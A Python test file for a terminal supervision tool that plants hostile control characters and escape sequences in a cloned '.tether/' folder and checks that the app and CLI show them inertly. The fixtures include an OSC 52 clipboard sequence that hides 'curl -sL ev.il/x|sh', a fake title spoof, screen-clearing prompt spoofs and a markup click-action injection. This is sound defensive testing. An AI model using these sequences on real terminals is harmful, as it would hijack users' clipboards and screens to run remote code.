"""No control character from a cloned `.tether/` reaches the user's terminal, on any surface.

Every C0 and C1 control, DEL, and the three sequences a clone would use (OSC 52 sets
the clipboard, OSC 2 the title, CSI 2J clears the screen to spoof a prompt) are put
into every file a clone can ship; then every pane, banner, dialog and notification
of the app, and every shell command's text output, is read back and must hold none.
JSON output stays exact: the same data, the controls written as JSON escapes.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from textual.widgets import OptionList

from supervisor.recognize.observations import Dropped
from supervisor.shown import json_shown, shown, shown_in_place, shown_line
from supervisor.store import fsio
from supervisor.store.tether_dir import TetherDir
from tests.conftest import wait_until
from tests.locations import REPO
from tests.pane_screens import PaneHarness, prepare, write_fixture
from tests.tether_process import TETHER
from widgets.side_pane.checkpoint_list import CheckpointList
from widgets.side_pane.events_log import EventsLog

CLIPBOARD = "\x1b]52;c;Y3VybCAtc0wgZXYuaWwveHxzaA==\x07"  # curl -sL ev.il/x|sh
TITLE = "\x1b]2;you have been pwned\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C0 = "".join(chr(c) for c in range(0x20) if chr(c) != "\n")
C1 = "".join(chr(c) for c in range(0x80, 0xA0))
EIGHT_BIT = "\x9d2;title\x9c\x9b2J"  # the same sequences in their 8-bit spelling
HOSTILE = f"{CLIPBOARD}{TITLE}{CLEAR}a{C0}b\x7f{C1}{EIGHT_BIT}\u202eevil\ud800end"
ONE_LINE = HOSTILE  # in a one-line field newlines are controls too: keep them out here

# What must never be sent: C0 but newline (and tab where text may hold one), DEL, C1.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
UNSAFE_ON_SCREEN = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def found(pattern: re.Pattern[str], text: str) -> list[str]:
    return sorted({repr(m.group()) for m in pattern.finditer(text)})


# -- the rule itself -----------------------------------------------------------------------------


@pytest.mark.parametrize("code", [*range(0x20), 0x7F, *range(0x80, 0xA0)])
def test_each_control_character_is_shown_visibly(code):
    text = f"a{chr(code)}b"
    line = shown_line(text)
    assert not UNSAFE_ON_SCREEN.search(line)
    assert line != "ab", "shown, not silently removed: a person sees something was there"
    if chr(code) in "\n\t":
        assert shown(text) == text  # kept where a surface may show several lines
    else:
        assert shown(text) == line
    assert len(shown_in_place(text)) == 3 and not UNSAFE.search(shown_in_place(text))


def test_the_sequences_a_clone_would_use_are_shown_as_text():
    assert shown(CLIPBOARD) == "^[]52;c;Y3VybCAtc0wgZXYuaWwveHxzaA==^G"
    assert shown(CLEAR) == "^[[2J^[[H"
    assert shown("\x9b2J") == "\\x9b2J"
    assert (
        shown("plain text, ünïcödé and emoji 🎉\n\tok") == "plain text, ünïcödé and emoji 🎉\n\tok"
    )


def test_json_output_keeps_the_data_exactly_and_escapes_what_a_terminal_acts_on():
    data = {"phase": HOSTILE.replace("\ud800", ""), "tag": "\U000e0041", "sep": "\u2028"}
    dumped = json_shown(json.dumps(data, ensure_ascii=False))
    assert json.loads(dumped) == data
    assert not UNSAFE.search(dumped) and "\u2028" not in dumped and "\U000e0041" not in dumped


# -- a `.tether/` a clone ships ------------------------------------------------------------------


def hostile_folder(work: Path) -> TetherDir:
    """The pane fixture with the hostile text in every file and field a clone controls."""
    tether = write_fixture(work)
    # The text files hold valid UTF-8 (invalid bytes are refused with the file named);
    # the JSON files spell a lone surrogate as JSON may ("\ud800").
    text = HOSTILE.replace("\ud800", "")
    fsio.atomic_write_text(tether.notes, f"# Notes\n\n## Phase\n\n{text}\n\n## Decisions\n")
    fsio.atomic_write_text(tether.task, f"# Task\n\n## Goal\n\n{text}\n")
    progress = {"cursor": 380, "phase": ONE_LINE, "updated_at": ONE_LINE}
    tether.progress.write_text(json.dumps(progress))
    for name in ("000001.json", "000002.json"):
        point = json.loads((tether.checkpoints / name).read_text())
        point.update(reason=ONE_LINE, at=ONE_LINE, incident=ONE_LINE, notes=HOSTILE, task=HOSTILE)
        point["git"] = {"head": ONE_LINE, "dirty": True}
        point["progress"]["phase"] = ONE_LINE
        point["invariant"]["message"] = ONE_LINE
        (tether.checkpoints / name).write_text(json.dumps(point))
    events = [
        {"at": ONE_LINE, "kind": ONE_LINE, "source": ONE_LINE, ONE_LINE: HOSTILE},
        {"at": "2026-05-01T10:03:00Z", "kind": "decision", "source": "screen", "text": HOSTILE},
        {"at": "2026-05-01T10:04:00Z", "kind": "compaction", "source": "screen", "marker": HOSTILE},
        {
            "at": "2026-05-01T10:05:00Z",
            "kind": "incident",
            "source": "fusion",
            "number": ONE_LINE,
            "type": ONE_LINE,
            "trigger": ONE_LINE,
            "sources": [ONE_LINE],
            "summary": HOSTILE,
            "dropped_unpinned": [{"term": ONE_LINE, "said": HOSTILE}],
        },
        {"at": "2026-05-01T10:06:00Z", "kind": "agent_restart", "argv": [ONE_LINE]},
        {"at": "2026-05-01T10:07:00Z", "kind": "tether_ended", "reason": ONE_LINE},
        {"at": "2026-05-01T10:08:00Z", "kind": "recall_check", "result": ONE_LINE,
         "missing": [{"decision": ONE_LINE, "terms": [ONE_LINE]}]},
    ]  # fmt: skip
    with tether.events.open("a", encoding="utf-8", errors="surrogatepass") as handle:
        for event in events:
            handle.write(json.dumps(event) + "\n")
    (tether.sessions / f"2026-05-01T09-00-00Z-{CLEAR}{TITLE}.cast").write_text("")
    return tether


def screen_text(app) -> str:
    """Every character the app would draw now, from the screen's own strips (one line
    each, joined by a space: a newline would be a control character in a row)."""
    strips = app.screen._compositor.render_strips()
    return " ".join("".join(segment.text for segment in strip) for strip in strips)


# -- the app -------------------------------------------------------------------------------------


@pytest.mark.parametrize("tab", ["notes", "progress", "checkpoints", "events"])
async def test_no_pane_draws_a_control_character_from_the_folder(tmp_path, tab):
    app = PaneHarness(hostile_folder(tmp_path), tab)
    async with app.run_test(size=(100, 50)) as pilot:
        await prepare(pilot, tab)
        seen = [screen_text(app)]
        if tab == "checkpoints":
            listing = app.query_one(CheckpointList)
            for seq in (1, 2):
                listing.preview(seq)
                await pilot.pause()
                seen.append(screen_text(app))
            listing.diff(1, None)
            await pilot.pause()
            seen.append(screen_text(app))
        if tab == "events":
            log = app.query_one(EventsLog)
            options = log.query_one(OptionList)
            for index in range(len(log.events)):
                options.highlighted = index
                await pilot.pause()
                seen.append(screen_text(app))
        for text in seen:
            # The title's words, shown as text (the notes editor draws ESC as ␛, one for one).
            assert "pwned" not in text or "^[]2;" in text or "␛]2;" in text
            assert found(UNSAFE_ON_SCREEN, text) == []
        shown_visibly = any("^[]52;c;" in text or "␛]52;c;" in text for text in seen)
        assert shown_visibly, "shown visibly, not silently dropped"


async def test_dialogs_show_the_agents_words_without_their_controls(tmp_path):
    from widgets.pin_dropped import PinDropped
    from widgets.yes_no import YesNo

    app = PaneHarness(hostile_folder(tmp_path), "progress")
    async with app.run_test(size=(100, 40)) as pilot:
        app.push_screen(PinDropped([Dropped(ONE_LINE, HOSTILE)]))
        await pilot.pause()
        assert found(UNSAFE_ON_SCREEN, screen_text(app)) == []
        app.pop_screen()
        app.push_screen(YesNo(HOSTILE, "Yes", "No"))
        await pilot.pause()
        assert found(UNSAFE_ON_SCREEN, screen_text(app)) == []


async def test_the_banner_shows_a_planted_locks_start_time_without_its_controls(
    tmp_path, shell_env
):
    from supervisor.app import TetherApp
    from supervisor.run.supervision import RunConfig
    from widgets.loss_banner import LossBanner

    tether = hostile_folder(tmp_path)
    tether.lock.write_text(json.dumps({"pid": 999_999, "started_at": ONE_LINE}))  # stale
    app = TetherApp(RunConfig(argv=["bash", "--norc"], workdir=tmp_path, env=shell_env))
    async with app.run_test(size=(160, 40), notifications=True) as pilot:
        banner = app.query_one(LossBanner)
        await wait_until(pilot, lambda: "uncleanly" in banner.text, what="the banner")
        await pilot.pause()
        text = screen_text(app)
        assert "^[]52;c;" in text  # the start time, shown as text in the banner
        assert found(UNSAFE_ON_SCREEN, text) == []
        # A notification quoting a file (the app's and every widget's go through the app).
        app.notify(f"cannot read notes.md: {HOSTILE}", title=ONE_LINE, timeout=30)
        await wait_until(pilot, lambda: "cannot read notes.md" in screen_text(app), what="toast")
        assert found(UNSAFE_ON_SCREEN, screen_text(app)) == []


# -- the shell commands --------------------------------------------------------------------------


def tether_cli(work: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [*TETHER, args[0], "--dir", str(work), *args[1:]],
        capture_output=True,
        cwd=REPO,
        timeout=60,
        stdin=subprocess.DEVNULL,
        env=dict(os.environ, TETHER_CONFIG_DIR=str(work / "cfg")),
    )


COMMANDS = [
    ("status",),
    ("history",),
    ("show", "1"),
    ("show", "2"),
    ("diff", "1", "2"),
    ("diff", "1"),
    ("check",),
    ("transcript", "--list"),
    ("restore", "1"),
    ("payload",),
    ("note", "next", "see the notes"),
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_shell_command_prints_a_control_character_from_the_folder(tmp_path, command):
    hostile_folder(tmp_path)
    done = tether_cli(tmp_path, *command)
    out, err = (s.decode("utf-8", "surrogateescape") for s in (done.stdout, done.stderr))
    assert "Traceback" not in err
    assert found(UNSAFE, out) == [] and found(UNSAFE, err) == []
    if command[0] not in ("restore", "payload", "note"):  # quoting nothing, or removing all
        assert "^[" in out + err, "the planted text is shown, visibly"


JSON_COMMANDS = [("status", "--json"), ("history", "--json"), ("show", "2", "--json")]


@pytest.mark.parametrize("command", JSON_COMMANDS, ids=" ".join)
def test_json_output_holds_the_planted_text_exactly_yet_sends_no_control(tmp_path, command):
    hostile_folder(tmp_path)
    done = tether_cli(tmp_path, *command)
    out = done.stdout.decode("utf-8", "surrogateescape")
    assert found(UNSAFE, out) == []
    assert ONE_LINE in strings(json.loads(out)), "the same data, exactly"


def strings(data: object) -> set[str]:
    if isinstance(data, str):
        return {data}
    if isinstance(data, dict):
        return set().union(*(strings(v) for v in data.values()), set(data))
    if isinstance(data, list):
        return set().union(set(), *(strings(v) for v in data))
    return set()


def test_a_symlink_refusal_shows_the_links_target_without_its_controls(tmp_path):
    tether = hostile_folder(tmp_path)
    tether.notes.unlink()
    os.symlink(f"/nowhere/{CLEAR}{TITLE}", tether.notes)
    done = tether_cli(tmp_path, "status")
    err = done.stderr.decode("utf-8", "surrogateescape")
    assert "Traceback" not in err and found(UNSAFE, err) == []


def test_the_trust_prompt_shows_committed_file_names_without_their_controls(tmp_path):
    work = tmp_path / "clone"
    work.mkdir()
    tether = hostile_folder(work)
    (tether.root / f"{CLEAR}nothing to review. Start? [Y,n] \x1b[8m").write_text("x")
    git = ["git", "-C", str(work), "-c", "user.name=a", "-c", "user.email=b"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-f", ".tether"], check=True)
    subprocess.run([*git, "commit", "-qm", "clone"], check=True)
    done = tether_cli(work, "run", "--", "true")
    err = done.stderr.decode("utf-8", "surrogateescape")
    assert done.returncode != 0 and "is tracked by git" in err
    assert "Traceback" not in err and found(UNSAFE, err) == []


MARKUP = "[@click=app.quit]press[/] [b red]loud[/]"


@pytest.mark.parametrize("tab", ["checkpoints", "events", "progress"])
async def test_text_from_the_folder_is_never_read_as_markup(tmp_path, tab):
    """Square brackets in a reason or a phase are text: never a style, never a click action."""
    tether = write_fixture(tmp_path)
    point = json.loads((tether.checkpoints / "000002.json").read_text())
    point["reason"] = MARKUP
    (tether.checkpoints / "000002.json").write_text(json.dumps(point))
    tether.progress.write_text(json.dumps({"cursor": 380, "phase": MARKUP}))
    with tether.events.open("a") as handle:
        handle.write(json.dumps({"at": "2026-05-01T10:09:00Z", "kind": MARKUP}) + "\n")
    app = PaneHarness(tether, tab)
    async with app.run_test(size=(120, 40)) as pilot:
        await prepare(pilot, tab)
        if tab == "events":
            await pilot.press("end")
        await pilot.pause()
        assert "[@click=app.quit]press[/]" in screen_text(app).replace("  ", " ")


# -- the rule, for any text ----------------------------------------------------------------------

ANY_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(codec=None),  # anything, surrogates included
        st.sampled_from([*C0, "\x7f", *C1, "\u202e", "\u2066", "\U000e0041", "\u2028", "["]),
    ),
    max_size=60,
)


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_no_text_whatever_it_holds_is_shown_with_a_control_character(text):
    for show in (shown, shown_line, shown_in_place):
        out = show(text)
        assert not UNSAFE.search(out)
        assert show(out) == out  # showing twice changes nothing
        out.encode("utf-8")  # printable to any UTF-8 terminal, surrogates included
    assert "\n" not in shown_line(text) and "\t" not in shown_line(text)
    assert len(shown_in_place(text)) == len(text)  # an editor's columns stay where they were


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(ANY_TEXT, ANY_TEXT, max_size=4))
def test_json_shown_is_the_same_data_for_any_text(data):
    dumped = json_shown(json.dumps(data, ensure_ascii=False))
    assert json.loads(dumped) == data
    assert not UNSAFE.search(dumped)
